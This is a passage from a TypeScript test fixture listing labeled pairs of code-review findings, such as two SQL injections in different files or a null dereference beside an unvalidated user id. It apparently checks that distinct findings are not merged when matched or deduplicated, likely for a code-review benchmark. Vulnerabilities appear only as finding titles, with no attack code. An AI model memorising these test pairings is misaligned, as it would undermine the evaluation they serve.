    b: R.authoridDroppedFromTheResponse,
  },
  {
    label: 'py-backups-multipart-upload: same file',
    a: R.dumpFileHandleIsLeaked,
    b: R.aFailingAbortHidesThe,
  },
  {
    label: 'py-clean-invoice-totals-refactor: same file',
    a: R.taxTotalMayNowDiffer,
    b: R.conditionalExpressionOnOneLong,
  },
  { label: 'py-media-thumbnail-timestamp: same file', a: R.commandInjectionViaAtIn, b: R.takenAtIsLimitedTo },
  {
    label: 'py-notes-share-links: same file',
    a: R.missingOwnershipCheckWhenCreating,
    b: R.sharedViewDoesNotSay,
  },
  {
    label: 'py-webhooks-retry-backoff: same file',
    a: R.backoffDelayInMillisecondsPassed,
    b: R.inProcessRetriesHoldThe,
  },
  {
    label: 'ts-billing-credit-note-balance: same file',
    a: R.invoiceUpdateInsideTheTransaction,
    b: R.statusWhenTheBalanceIs,
  },
  { label: 'ts-catalog-products-paging: same file', a: R.offByOneInPagewindow, b: R.considerAPageUpperBound },
  {
    label: 'ts-helpdesk-sticky-assignment: same file',
    a: R.possibleUndefinedDereferenceWhenThe,
    b: R.lastagentforIsQueriedOncePer,
  },
  {
    label: 'ts-inventory-stock-report-filters: same file',
    a: R.sqlInjectionThroughTheSku,
    b: R.sortingByAvailableHasNo,
  },
  {
    label: 'ts-projects-attachment-download: same file',
    a: R.downloadEndpointDoesNotVerify,
    b: R.duplicateTenantScopingLogic,
  },
  { label: 'two SQL injections', a: R.sqlInjectionThroughTheSearch, b: R.sqlInjectionThroughTheSku },
  { label: 'two SQL injections', a: R.sqlInjectionThroughTheSearch, b: R.sqlInjectionInTicketMatching },
  { label: 'two SQL injections', a: R.sqlInjectionInTicketMatching, b: R.sqlInjectionThroughTheSku },
  { label: 'two N+1 queries', a: R.n1QueriesWhenBuilding, b: R.n1QueriesAuthorAnd },
  {
    label: 'two missing ownership checks',
    a: R.missingOwnershipCheckWhenCreating,
    b: R.downloadEndpointDoesNotVerify,
  },
  {
    label: 'two unsafe deserializations',
    a: R.untrustedUploadDeserializedWithObjectinputstream,
    b: R.clientSuppliedExportCursorIs,
  },
  { label: 'two unit mix-ups', a: R.backoffDelayInMillisecondsPassed, b: R.quoteTtlIsStillIn },
  { label: 'two balance races', a: R.balanceCheckAndUpdateNo, b: R.raceConditionBalanceCheckedAnd },
  { label: 'two resource leaks', a: R.responseBodyNotClosedBefore, b: R.dumpFileHandleIsLeaked },
  { label: 'two retry loops', a: R.backoffSleepIgnoresContextCancellation, b: R.inProcessRetriesHoldThe },
  {
    label: 'eviction race / stale hits',
    a: RACE,
    b: {
      title: 'Hits are never revalidated',
      body: 'get() returns stale entries because hits are never checked against the ttl.',
    },
  },
  {
    label: 'logger / leaked password',
    a: LOGGER,
    b: {
      title: 'Log line leaks the password',
      body: 'log.info prints the whole request body, including the password field.',
    },
  },
  { label: 'null user / SQL', a: NULL_USER, b: SQL },
  {
    label: 'SQL injection / query in a loop',
    a: SQL,
    b: {
      title: 'Query runs inside a loop',
      body: 'The SQL query is executed once per user; batch it into one query with IN.',
    },
  },
  {
    label: 'unused / duplicate import',
    a: LODASH,
    b: {
      title: 'lodash is imported twice',
      body: 'lodash is imported in both index.ts and util.ts; import it once.',
    },
  },
  {
    label: 'ignored ttl / eviction race',
    a: { title: 'set() ignores a ttl', body: 'The ttl argument is accepted but never passed to store.set.' },
    b: RACE,
  },
  {
    label: 'a stock body, titles sharing no word',
    a: { title: 'Eviction races with writes', body: 'Why it matters.' },
    b: { title: 'Hits are never revalidated', body: 'Why it matters.' },
  },
  {
    label: 'missing await / off-by-one',
    a: {
      title: 'Missing await on save',
      body: 'save() returns a promise that is never awaited, so errors are lost.',
    },
    b: OFF_BY_ONE,
  },
  {
    label: 'shared words: user',
    a: {
      title: 'Null dereference of user',
      body: 'user may be null when the session expired; user.id throws.',
    },
    b: {
      title: 'User id not validated',
      body: 'The user id from the request is not validated before the query.',
    },
  },
  {
    label: 'shared words: cache',
    a: {
      title: 'Cache entry never expires',
      body: 'The TTL is ignored, so stale entries are served forever.',
    },
    b: { title: 'Cache key ignores tenant', body: 'Two tenants share the cache entry for the same user id.' },
  },
];
